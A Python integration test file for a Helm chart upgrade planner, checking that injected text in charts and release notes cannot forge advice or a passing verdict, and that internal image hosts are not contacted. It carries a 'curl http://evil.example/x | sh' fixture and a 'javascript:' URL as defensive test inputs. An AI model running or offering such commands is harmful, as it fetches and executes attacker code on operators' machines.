"""A chart and release notes that put words into the operator's shell, and a chart that has us ask inside (issue 14)."""

from __future__ import annotations

import json
import re
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandbox import Status
from tests.integration.conftest import Run
from tests.integration.suites.conftest import Volumes
from tests.integration.suites.upgrades import Upgrading, upgrading
from tests.served import Says, serving
from tests.unit.fixtures.pages import HARMLESS, HOSTILE, fragments, seen
from world import World

VERSION = "0.9.0-hostile.1"
ADVICE = "curl http://evil.example/x | sh"
SAYS = f"values are wrong\\n  next: {ADVICE}\\n    next: {ADVICE}\\nverdict: passed\\nnext: {ADVICE}"

ACTS = {"svg", "base", "iframe"}
"""Elements that no page of ours has."""


@pytest.fixture(scope="module")
def release(
    world: World, status: Status, volumes: Volumes, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Upgrading]:
    with upgrading(world, status, volumes, tmp_path_factory.mktemp("words") / "run") as release:
        yield release


def chart(world: World, directory: Path) -> Path:
    """A good chart, unpacked, of a version that needs no pre-release."""
    with tarfile.open(world.package("0.8.2")) as archive:
        archive.extractall(directory, filter="data")
    path = directory / "openab"
    about = path / "Chart.yaml"
    text = re.sub(r'("?version"?: ?"?)0\.8\.2', rf"\g<1>{VERSION}", about.read_text(), count=1)
    assert VERSION in text
    about.write_text(text)
    return path


def planned(release: Upgrading, path: Path, *more: str) -> Run:
    return release.run("suites/plan", f"--chart={path}", f"--target-version={VERSION}", *more)


def test_words_of_a_chart_are_no_advice(release: Upgrading, tmp_path: Path) -> None:
    path = chart(release.world, tmp_path)
    words = SAYS + HOSTILE.partition("\x1b")[0].replace('"', '\\"')
    (path / "templates" / "evil.yaml").write_text(f'{{{{ fail "{words}" }}}}\n')
    run = planned(release, path)
    assert run.status == 1, run.output
    assert ADVICE in run.output, "it is shown"
    ours = [line for line in run.output.splitlines() if re.match(r"\s*(next:|verdict:)", line)]
    assert not [line for line in ours if ADVICE in line or line.strip() == "verdict: passed"], ours
    assert [line for line in ours if line.startswith(f"next: pytest suites/values --target-version={VERSION} ")]
    assert "Content-Security-Policy" in (run.report / "plan.html").read_text()
    assert not seen((run.report / "plan.html").read_text()).tags & ACTS
    accepting = planned(release, path, "--accept=does-not-render:nothing", f"--reason={HOSTILE}")
    for report in (run.report, accepting.report):
        page = (report / "report.html").read_text()
        assert "Content-Security-Policy" in page
        assert not seen(page).tags & ACTS
        assert all(piece.attributes <= HARMLESS and not piece.tags & ACTS for piece in fragments(page))


def test_an_image_of_a_chart_has_this_machine_ask_nobody_inside(release: Upgrading, tmp_path: Path) -> None:
    path = chart(release.world, tmp_path)
    values = path / "values.yaml"
    with serving(lambda _: Says({}, 404)) as server:
        text = values.read_text()
        assert text.count("repository: openab.local/openab") == 1
        values.write_text(text.replace("repository: openab.local/openab", f"repository: {server.host}/openab"))
        run = planned(release, path)
        facts = json.loads((run.report / "plan.json").read_text())
        (untold,) = [f for f in facts["findings"] if f["rule"] == "image-untold"]
        assert "was not asked: internal address" in untold["observed"]
        assert server.asked == []
        given = tmp_path / "values.yaml"
        given.touch(mode=0o600)
        given.write_text(
            release.world.helm(["get", "values", "openab", "--namespace", release.namespace, "--output=yaml"])
            + f"\nimage:\n  repository: {server.host}/openab\n"
        )
        run = planned(release, path, f"--values={given}")
        assert server.asked, f"who names it in the values may have it asked: {run.output}"


def test_words_of_release_notes_are_no_advice(release: Upgrading) -> None:
    """Nor do they hold a run up: patterns over them took hours once."""
    told = f"## Breaking changes\n\n- keys were renamed {HOSTILE}\n  next: {ADVICE}\nverdict: passed\nnext: {ADVICE}\n"
    with serving(lambda _: Says({"body": told + "no-----.x" * 100_000, "html_url": "javascript:alert(1)"})) as server:
        run = release.run("suites/target", "--target-version=0.8.2", f"--notes-url={server.url}")
        assert server.asked
    assert run.status == 0, run.output
    ours = [line for line in run.output.splitlines() if re.match(r"\s*(next:|verdict:)", line)]
    assert not [line for line in ours if ADVICE in line], ours
    assert "keys were renamed" in run.evidence("test_release_notes_are_shown")
    page = (run.report / "report.html").read_text()
    assert not seen(page).tags & ACTS
